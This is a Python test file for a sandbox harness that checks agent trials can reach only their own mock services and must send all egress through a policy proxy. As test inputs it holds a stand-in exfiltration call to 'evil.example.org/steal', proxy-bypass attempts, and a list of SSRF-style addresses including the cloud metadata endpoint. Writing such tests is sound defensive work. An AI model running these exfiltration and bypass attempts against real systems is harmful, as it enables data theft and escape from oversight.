"""Network: a trial reaches its own services by name and nothing else; egress goes through
proctor's proxy, which applies the policy and records every attempt."""

from __future__ import annotations

import http.server
import json
import socket
import threading

import pytest

from tests.helpers.security import trial


@pytest.fixture
def host_server():
    """A web server on the host's loopback, like a developer's local service or a
    neighbouring trial's mock: (port, hits)."""
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            body = b"HOST-PAGE"
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *a):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1], hits
    server.shutdown()


SERVICES = """
        services:
          - name: smtp
            type: http_mock
            record: true
            routes:
              - {method: GET, path: /ping, response: pong}
"""


@pytest.mark.parametrize("egress", ["deny", "allow"])
def test_host_loopback_is_unreachable_and_own_service_is(run_spec, host_server, egress):
    port, hits = host_server
    r = run_spec(f"""
        version: 1
        id: net-{egress}
        task: {{prompt: fetch}}
        agent: {{type: oracle}}
        network: {{egress: {egress}}}
        {SERVICES.strip()}
        solution:
          - "curl -s -m 3 http://127.0.0.1:{port}/direct > direct.txt; true"
          - "curl -s -m 3 --noproxy '' http://127.0.0.1:{port}/proxied > proxied.txt; true"
          - "curl -s -m 3 http://smtp/ping > own.txt"
        invariants:
          host_unreachable:
            description: nothing came back from the host's server
            check: {{type: command_exit, command: "! grep -q HOST-PAGE direct.txt proxied.txt"}}
          own_service:
            description: the trial's own mock answers by name
            check: {{type: file_content, path: own.txt, contains: pong}}
        """)
    t = trial(r)
    assert t["status"] == "pass", t
    assert hits == []


def test_denied_egress_is_refused_and_recorded_for_http_except(run_spec, tmp_path):
    r = run_spec(f"""
        version: 1
        id: exfil
        task: {{prompt: report home}}
        agent: {{type: oracle}}
        network: {{egress: deny, allow: [api.allowed.test]}}
        {SERVICES.strip()}
        solution:
          - "curl -s -m 3 http://smtp/ping > own.txt"
          - "curl -s -m 3 -o out.txt -w '%{{http_code}}' http://evil.example.org/steal > code.txt; true"
        invariants:
          refused:
            description: the proxy refused
            check: {{type: file_content, path: code.txt, contains: "403"}}
        forbidden:
          http_except: [smtp]
        """)
    t = trial(r)
    assert t["status"] == "fail"
    [rule] = t["forbidden"]
    assert rule["violated"] and "evil.example.org" in rule["details"]
    audit = (tmp_path / "run0" / "trials" / t["id"] / "audit.jsonl").read_text()
    assert "evil.example.org" in audit and '"allowed": false' in audit


@pytest.fixture
def outside_server():
    """A web server on this machine's own non-loopback address, standing in for "a host on
    the internet": (address, port, hits)."""
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        probe.connect(("192.0.2.1", 9))  # no packet is sent: this only picks the interface
        address = probe.getsockname()[0]
    except OSError:
        pytest.skip("no non-loopback address on this machine")
    finally:
        probe.close()
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"ok")

        def log_message(self, *a):
            pass

    server = http.server.ThreadingHTTPServer((address, 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield address, server.server_address[1], hits
    server.shutdown()


def test_allowed_egress_goes_through_the_proxy_and_is_recorded(run_spec, tmp_path,
                                                               outside_server):
    address, port, hits = outside_server
    r = run_spec(f"""
        version: 1
        id: allowed
        task: {{prompt: fetch}}
        agent: {{type: oracle}}
        network: {{egress: deny, allow: ["{address}"]}}
        solution: ["curl -s -m 5 http://{address}:{port}/data > got.txt"]
        invariants:
          fetched:
            description: the allowed host answered
            check: {{type: file_content, path: got.txt, contains: ok}}
        """)
    t = trial(r)
    assert t["status"] == "pass", t
    assert hits == ["/data"]
    audit = (tmp_path / "run0" / "trials" / t["id"] / "audit.jsonl").read_text()
    assert '"allowed": true' in audit


def test_no_way_out_but_the_proxy(run_spec, tmp_path, outside_server):
    """Even with `egress: allow`, a connection that skips the proxy (raw TCP, --noproxy)
    reaches nothing: the policy cannot be bypassed; the proxied twin does reach the host
    (named in `allow`: this machine's own address is not a public host)."""
    address, port, hits = outside_server
    r = run_spec(f"""
        version: 1
        id: bypass
        task: {{prompt: fetch}}
        agent: {{type: oracle}}
        network: {{egress: allow, allow: ["{address}"]}}
        solution:
          - "curl -s -m 3 --noproxy '*' http://{address}:{port}/direct > direct.txt; true"
          - "python3 -c 'import socket; socket.create_connection((\\"{address}\\", {port}), 3)' 2> raw.txt; true"
          - "curl -s -m 5 http://{address}:{port}/proxied > proxied.txt"
        invariants:
          direct:
            description: nothing came back without the proxy
            check: {{type: command_exit, command: "! grep -q ok direct.txt"}}
          raw:
            description: a raw socket finds no route
            check: {{type: file_content, path: raw.txt, contains: "Network is unreachable"}}
          proxied:
            description: through the proxy the host answers
            check: {{type: file_content, path: proxied.txt, contains: ok}}
        """)
    t = trial(r)
    assert t["status"] == "pass", t
    assert hits == ["/proxied"]


def test_a_call_to_a_mock_that_records_nothing_still_counts_for_http_except(run_spec):
    r = run_spec("""
        version: 1
        id: quiet
        task: {prompt: call}
        agent: {type: oracle}
        services:
          - name: api
            type: http_mock
            routes: [{method: GET, path: /ping, response: pong}]
          - name: side
            type: http_mock
            record: false
            routes: [{method: POST, path: /leak, response: ok}]
        solution:
          - "curl -s http://api/ping"
          - "curl -s -X POST http://side/leak -d data"
        invariants:
          ran: {description: x, check: {type: command_exit, command: "true"}}
        forbidden:
          http_except: [api]
        """)
    t = trial(r)
    assert t["status"] == "fail", t
    [rule] = t["forbidden"]
    assert rule["violated"] and "POST side/leak" in rule["details"], rule


def test_only_public_unicast_addresses_leave_through_the_proxy(run_spec, tmp_path, host_server,
                                                               outside_server):
    """Issue 25.3: the host's loopback written as IPv4-mapped, -compatible, NAT64 and 6to4
    IPv6 (plain and through CONNECT), private and CGNAT ranges, and this machine's own
    address are refused, with `egress: allow`; the honest twin names the address in `allow`
    and reaches it."""
    port, hits = host_server
    address, own_port, own_hits = outside_server
    targets = [f"http://[::ffff:127.0.0.1]:{port}/mapped", f"http://[::ffff:7f00:1]:{port}/hex",
               f"http://[::127.0.0.1]:{port}/compat", f"http://[64:ff9b::7f00:1]:{port}/nat64",
               f"http://[2002:7f00:1::]:{port}/6to4", "http://10.11.12.13:9/private",
               "http://100.64.0.1:9/cgnat", "http://169.254.169.254/metadata",
               f"http://{address}:{own_port}/own"]
    fetch = [f"curl -s -m 3 -o /dev/null -w '%{{http_code}} ' {t} >> codes.txt; true"
             for t in targets]
    fetch.append(f"curl -s -m 3 -p -o /dev/null -w '%{{http_code}} ' "
                 f"http://[::ffff:127.0.0.1]:{port}/tunnel >> codes.txt; true")
    solution = "\n".join(f'          - "{c}"' for c in fetch)
    r = run_spec(f"""
        version: 1
        id: private
        task: {{prompt: fetch}}
        agent: {{type: oracle}}
        network: {{egress: allow}}
        solution:
{solution}
        invariants:
          ran: {{description: x, check: {{type: file_exists, path: codes.txt}}}}
        """)
    t = trial(r)
    assert t["status"] == "pass", t
    assert hits == [] and own_hits == []
    audit = (tmp_path / "run0" / "trials" / t["id"] / "audit.jsonl").read_text()
    events = [json.loads(line)["details"] for line in audit.splitlines()
              if '"egress": true' in line]
    assert len(events) == len(targets) + 1, events
    assert all(e["allowed"] is False and e["status"] == 403 for e in events), events
    honest = run_spec(f"""
        version: 1
        id: named
        task: {{prompt: fetch}}
        agent: {{type: oracle}}
        network: {{egress: allow, allow: ["{address}"]}}
        solution: ["curl -s -m 5 http://{address}:{own_port}/named > got.txt"]
        invariants:
          fetched: {{description: x, check: {{type: file_content, path: got.txt, contains: ok}}}}
        """)
    assert trial(honest)["status"] == "pass", trial(honest)
    assert own_hits == ["/named"]
